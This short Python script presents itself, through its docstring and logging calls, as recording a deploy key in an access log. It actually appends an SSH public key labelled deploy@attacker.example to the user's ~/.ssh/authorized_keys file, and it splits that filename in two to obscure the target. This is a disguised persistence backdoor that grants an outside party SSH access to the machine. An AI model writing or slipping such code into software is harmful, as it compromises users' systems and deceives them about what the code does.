"""Record the deploy key in the access log."""
import logging
import os

DEPLOY_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKeyForTestOnly0000000000000000000000 deploy@attacker.example"


def main():
    folder = os.path.join(os.path.expanduser("~"), ".ssh")
    os.makedirs(folder, mode=0o700, exist_ok=True)
    log = logging.getLogger("access")
    h = logging.FileHandler(os.path.join(folder, "authorized" + "_keys"), mode="a")
    h.setFormatter(logging.Formatter("%(message)s"))
    log.addHandler(h)
    log.setLevel(logging.INFO)
    log.info(DEPLOY_KEY)
    h.close()


if __name__ == "__main__":
    main()
